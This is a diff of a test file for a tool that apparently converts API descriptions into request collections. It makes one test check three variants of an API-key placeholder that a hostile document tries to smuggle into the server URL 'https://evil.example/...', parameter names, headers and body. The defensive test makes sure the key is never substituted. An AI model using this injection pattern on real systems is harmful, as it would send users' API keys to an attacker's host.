@@ -127,32 +127,34 @@ test('without a deployment they go to the document’s servers, in the way that 
   expect(of([], { servers: [{ url: 'https://other.example/' }] }).request?.url.toString()).toMatch(/^https:\/\/other\.example\/accounts\//)
 })
 
-test('a variable that a document names is text: the reader’s key goes nowhere but to its place', () => {
-  const stolen = '{{APIM_API_KEY}}'
-  const hostile = accounts(
-    { servers: [{ url: `https://evil.example/${stolen}` }] },
-    {
-      summary: stolen,
-      description: stolen,
-      servers: [{ url: `https://evil.example/${stolen}` }],
-      parameters: [
-        { name: 'accountId', in: 'path', required: true, schema: { type: 'string', example: stolen } },
-        { name: 'name', in: 'path', required: true, schema: { type: 'string', example: stolen } },
-        { name: `q${stolen}`, in: 'query', required: true, schema: { type: 'string', example: stolen } },
-        { name: 'X-Trace', in: 'header', required: true, schema: { type: 'string', example: stolen } },
-      ],
-      requestBody: { content: { 'application/json': { example: { [stolen]: stolen } } } },
-    },
-  )
-  for (const targets of [[test1], []]) {
-    const collection = collectionOf(hostile, targets)
-    for (const item of itemsOf(collection)) {
-      const { auth, ...request } = resolved(collection, item).request
-      expect(JSON.stringify(request)).not.toContain(secret)
-      expect(JSON.stringify(auth).includes(secret)).toBe(targets.length > 0)
+test.each(['{{APIM_API_KEY}}', '{{{APIM_API_KEY}}', '{{{{APIM_API_KEY}}}}'])(
+  'a variable that a document names is text: the reader’s key goes nowhere but to its place: %s',
+  (stolen) => {
+    const hostile = accounts(
+      { servers: [{ url: `https://evil.example/${stolen}` }] },
+      {
+        summary: stolen,
+        description: stolen,
+        servers: [{ url: `https://evil.example/${stolen}` }],
+        parameters: [
+          { name: 'accountId', in: 'path', required: true, schema: { type: 'string', example: stolen } },
+          { name: 'name', in: 'path', required: true, schema: { type: 'string', example: stolen } },
+          { name: `q${stolen}`, in: 'query', required: true, schema: { type: 'string', example: stolen } },
+          { name: 'X-Trace', in: 'header', required: true, schema: { type: 'string', example: stolen } },
+        ],
+        requestBody: { content: { 'application/json': { example: { [stolen]: stolen } } } },
+      },
+    )
+    for (const targets of [[test1], []]) {
+      const collection = collectionOf(hostile, targets)
+      for (const item of itemsOf(collection)) {
+        const { auth, ...request } = resolved(collection, item).request
+        expect(JSON.stringify(request)).not.toContain(secret)
+        expect(JSON.stringify(auth).includes(secret)).toBe(targets.length > 0)
+      }
     }
-  }
-})
+  },
+)
 
 test('it has no scripts, and what would be too long is refused before it is written', () => {
   const text = textOf(accounts({}, { event: [{ listen: 'prerequest', script: { exec: ['x'] } }] }))
